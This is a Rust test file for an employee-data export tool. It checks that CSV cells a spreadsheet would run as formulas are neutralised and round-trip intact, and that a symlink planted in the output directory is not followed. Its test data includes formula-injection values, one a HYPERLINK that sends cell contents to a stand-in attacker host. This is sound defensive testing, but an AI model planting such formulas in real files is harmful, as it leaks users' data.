//! Export is safe to open and safe to write: text a spreadsheet would run
//! as a formula is written behind a `'` and comes back unchanged on import
//! (export → import → export gives the same bytes, on SQLite and
//! PostgreSQL); the tools answer the text as it is; a symbolic link
//! planted in `--out` is replaced, and the file it points at is untouched.

use std::path::Path;

use serde_json::json;

use crate::common::{Backend, Server, TempDb, temp_path};
use crate::exchange::{contents, csv_row, export, import, ok, rows};

/// First names a spreadsheet would evaluate, and the plain ones that must
/// be written as they are.
const NAMES: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "'=already quoted",
    "'plain quote",
    "O'Brien",
];

/// Sets the first names of the first employees of `dir`'s export to
/// [`NAMES`], as an HR file would carry them (unguarded).
fn plant_names(dir: &Path) -> Vec<String> {
    let path = dir.join("employees.csv");
    let mut table = csv_row::read(&path);
    let first = table[0]
        .iter()
        .position(|c| c == "firstName")
        .expect("firstName");
    let mut ids = Vec::new();
    for (row, name) in table.iter_mut().skip(1).zip(NAMES) {
        row[first] = name.to_string();
        ids.push(row[0].clone());
    }
    csv_row::write(&path, &table);
    ids
}

/// Every cell of every exported CSV file begins with a character no
/// spreadsheet evaluates (numbers aside: no column of the export is
/// negative).
fn assert_inert(dir: &Path) {
    for (file, _) in contents(dir) {
        if !file.ends_with(".csv") {
            continue;
        }
        for row in csv_row::read(&dir.join(&file)) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file}: {cell:?} would be evaluated"
                );
            }
        }
    }
}

async fn formulas_round_trip(backend: Backend) {
    let db = TempDb::seeded_on(backend);
    let source = export(&db);
    let ids = plant_names(&source);
    let (success, _, err) = import(&db, &source, &[]);
    assert!(success, "{err}");

    let first = export(&db);
    assert_inert(&first);
    let exported = rows(&first, "employees.csv");
    let column = exported[0]
        .iter()
        .position(|c| c == "firstName")
        .expect("column");
    let written = |id: &str| {
        exported
            .iter()
            .find(|r| r[0] == id)
            .map(|r| r[column].clone())
            .expect("row")
    };
    assert_eq!(written(&ids[0]), format!("'{}", NAMES[0]));
    // A file's `'` before a formula is read as the guard an export writes.
    assert_eq!(written(&ids[5]), "'=already quoted");
    assert_eq!(written(&ids[6]), "'plain quote");
    assert_eq!(written(&ids[7]), "O'Brien");

    // The import takes the guard off: the same bytes come back out.
    let (success, _, err) = import(&db, &first, &["--mode", "replace"]);
    assert!(success, "{err}");
    assert_eq!(contents(&export(&db)), contents(&first));

    // The tools answer the names as the HR file had them.
    let server = Server::start_on(db.share(), &[]).await;
    for (id, name) in ids.iter().zip(NAMES) {
        let name = name
            .strip_prefix("'")
            .filter(|n| n.starts_with('='))
            .unwrap_or(name);
        let answer = server
            .call_tool("get-employee-details", json!({"employeeId": id}))
            .await;
        let text = answer.to_string();
        let expected = serde_json::to_string(name).expect("json");
        assert!(text.contains(&expected), "{id}: {name:?} not in {text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_are_neutralised_and_round_trip_on_sqlite() {
    formulas_round_trip(Backend::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_are_neutralised_and_round_trip_on_postgres() {
    formulas_round_trip(Backend::Postgres).await;
}

#[cfg(unix)]
#[test]
fn a_symlink_planted_in_out_is_replaced_and_its_target_untouched() {
    let db = TempDb::seeded();
    let out = temp_path("planted", "d");
    std::fs::create_dir_all(&out).expect("mkdir");
    let victim = temp_path("victim", "txt");
    std::fs::write(&victim, "precious\n").expect("victim");
    let link = out.join("employees.csv");
    std::os::unix::fs::symlink(&victim, &link).expect("symlink");
    // A file of the user's, not the export's, stays as it is.
    std::fs::write(out.join("notes.txt"), "mine\n").expect("notes");

    let dir = out.to_string_lossy();
    ok(&["export", "--database", &db.url(), "--out", &dir]);

    assert_eq!(
        std::fs::read_to_string(&victim).expect("victim"),
        "precious\n"
    );
    let meta = std::fs::symlink_metadata(&link).expect("employees.csv");
    assert!(meta.file_type().is_file(), "employees.csv is still a link");
    assert!(rows(&out, "employees.csv").len() > 1000);
    assert_eq!(
        std::fs::read_to_string(out.join("notes.txt")).expect("notes"),
        "mine\n"
    );
    // No temporary file is left behind.
    let names: Vec<String> = std::fs::read_dir(&out)
        .expect("read out")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.iter().all(|n| !n.starts_with('.')), "{names:?}");
}
